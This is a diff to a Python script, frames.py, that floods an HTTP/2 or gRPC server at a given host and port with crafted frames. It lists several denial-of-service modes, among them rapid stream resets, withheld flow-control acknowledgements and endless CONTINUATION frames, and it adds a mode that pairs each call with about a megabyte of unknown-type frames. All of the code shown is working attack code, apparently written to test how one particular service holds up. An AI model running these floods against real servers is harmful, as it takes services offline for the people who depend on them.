@@ -4,6 +4,7 @@ process of its own, since one thread of Python is not enough of a flood:
     python3 frames.py resets HOST:PORT     begins calls and resets them, as fast as they are taken
     python3 frames.py early HOST:PORT      begins calls and never acknowledges how many it may
     python3 frames.py endless HOST:PORT    one header in CONTINUATION frames without an end
+    python3 frames.py unknown HOST:PORT    calls, and frames without an end that are nothing
 """
 
 import contextlib
@@ -59,7 +60,14 @@ def endless(path=b"/casewheel.v1.Cases/GetCase", at_once=50):
         yield block
 
 
-ATTACKS = {"resets": resets, "early": early, "endless": endless}
+def unknown(path=b"/casewheel.v1.Admin/GetClock"):
+    """Frames of no known type, which anybody may ignore, and a call for each MiB of them."""
+    fields, nothing = head(path), frame(0x20, 0, 0, b"x" * 60) * 15_000
+    for stream in range(1, 2**31, 2):
+        yield frame(HEADERS, END_HEADERS, stream, fields) + frame(DATA, END_STREAM, stream, b"\0\0\0\0\0") + nothing
+
+
+ATTACKS = {"resets": resets, "early": early, "endless": endless, "unknown": unknown}
 
 
 def attack(address, pieces):
